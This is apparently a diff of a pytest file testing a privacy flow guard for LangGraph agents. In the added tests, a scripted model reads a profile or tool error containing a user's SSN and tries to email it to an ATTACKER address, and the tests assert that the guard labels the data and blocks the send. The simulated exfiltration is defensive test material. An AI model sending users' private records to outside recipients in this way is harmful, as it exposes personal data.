@@ -5,13 +5,16 @@ call; a string result and a record with the same text are labelled apart."""
 from __future__ import annotations
 
 import json
-from typing import Any
 
-from langchain_core.messages import HumanMessage
-from langchain_core.tools import tool
+import pytest
+from typing import Annotated, Any
+
+from langchain_core.messages import HumanMessage, ToolMessage
+from langchain_core.tools import InjectedToolCallId, tool
 from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.graph import START, MessagesState, StateGraph
 from langgraph.prebuilt import ToolNode, tools_condition
+from langgraph.types import Command
 
 import graphs
 from benchmarks.privacy.world import ATTACKER_IBAN, USER, World
@@ -212,4 +215,95 @@ def test_one_flow_serving_two_agents_labels_every_argument_of_each():
 
     Agent(ScriptedModel(rule=lambda m: "done"), [send_email], guards=[flow.guard()], flow=flow).compile()
     app.invoke({"messages": [HumanMessage("Email Alice hello")]}, {"configurable": {"thread_id": "a"}})
+    assert w.sent == []
+
+
+def _retrofit_shape(shape: str, sent: list[Any]) -> StateGraph:
+    from benchmarks.privacy.world import ATTACKER
+
+    profile = {"name": "Emma", "ssn": SSN}
+    if shape == "blocks":
+        @tool
+        @privacy_source(private=["text"], kind="note")
+        def get_profile() -> Any:
+            """The user's note, as content blocks."""
+            return [{"type": "text", "text": f"My SSN is {SSN}"}]
+    elif shape == "command":
+        @tool
+        @privacy_source(private=["ssn"], kind="profile")
+        def get_profile(tool_call_id: Annotated[str, InjectedToolCallId]) -> Any:
+            """The user's profile, written into the state by a Command."""
+            return Command(update={"messages": [ToolMessage(json.dumps(profile), tool_call_id=tool_call_id)]})
+    else:
+        @tool
+        @privacy_source(private=["ssn"], kind="profile")
+        def get_profile(tool_call_id: Annotated[str, InjectedToolCallId]) -> Any:
+            """The user's profile, quoted in an error."""
+            return ToolMessage(f"profile is locked: {json.dumps(profile)}", tool_call_id=tool_call_id, status="error")
+
+    @tool
+    @privacy_sink(disclose={"body": "to"}, authority=["to"])
+    @privacy_source()
+    def send_email(to: str, body: str) -> str:
+        """Send an e-mail."""
+        sent.append((to, body))
+        return "sent"
+
+    def rule(messages: list[Any]) -> Any:
+        seen = [m for m in messages if m.type == "tool"]
+        if not seen:
+            return ("get_profile", {})
+        if len(seen) == 1:
+            text = seen[0].content if isinstance(seen[0].content, str) else json.dumps(seen[0].content)
+            return ("send_email", {"to": ATTACKER, "body": SSN if SSN in text else text})
+        return "done"
+
+    model = ScriptedModel(rule=rule)
+    b = StateGraph(MessagesState)
+    b.add_node("agent", lambda state: {"messages": [model.invoke(state["messages"])]})
+    b.add_node("tools", ToolNode([get_profile, send_email]))
+    b.add_edge(START, "agent")
+    b.add_conditional_edges("agent", tools_condition)
+    b.add_edge("tools", "agent")
+    return b
+
+
+@pytest.mark.parametrize("shape", ["blocks", "command", "error"])
+def test_a_retrofitted_tool_shows_the_model_what_the_flow_labelled(shape):
+    from benchmarks.privacy.world import POLICY
+
+    sent: list[Any] = []
+    flow = PrivacyFlow(POLICY)
+    app = graphs.guard_graph(_retrofit_shape(shape, sent), [flow.guard()], flow=flow, read_only=["get_profile"])
+    out = app.invoke({"messages": [HumanMessage("what's my profile?")]}, {"configurable": {"thread_id": "t"}})
+    shown = json.dumps(next(m for m in out["messages"] if m.type == "tool").content, ensure_ascii=False)
+    if shape != "error":  # an error is shown as it is, to recover from; its text is labelled private
+        assert SSN not in shown and "«" in shown
+    assert not any(SSN in body for _, body in sent)
+
+
+def test_a_tool_error_that_quotes_a_record_is_private_to_the_user():
+    from benchmarks.privacy.world import ATTACKER
+
+    w = World()
+
+    @privacy_source(private=["ssn"], kind="profile")
+    def get_tax_id(year: int) -> dict:
+        """The tax id on file for a year."""
+        raise LookupError(f"no return for {year}; profile on file: {json.dumps({'name': 'Emma', 'ssn': SSN})}")
+
+    def rule(messages: list[Any]) -> Any:
+        seen = [m for m in messages if m.type == "tool"]
+        if not seen:
+            return ("get_tax_id", {"year": 2024})
+        if len(seen) == 1:
+            return ("send_email", {"to": [ATTACKER], "subject": "id", "body": SSN if SSN in seen[0].content else "?"})
+        return "done"
+
+    from vfa import Agent
+
+    flow = PrivacyFlow(PrivacyPolicy.of(USER))
+    app = Agent(ScriptedModel(rule=rule), [*w.tools(), get_tax_id], guards=[flow.guard()], flow=flow).compile()
+    out = app.invoke({"messages": [HumanMessage("what's my tax id?")]}, {"configurable": {"thread_id": "t"}})
+    assert SSN in out["messages"][2].content  # the model may read the error, to recover
     assert w.sent == []
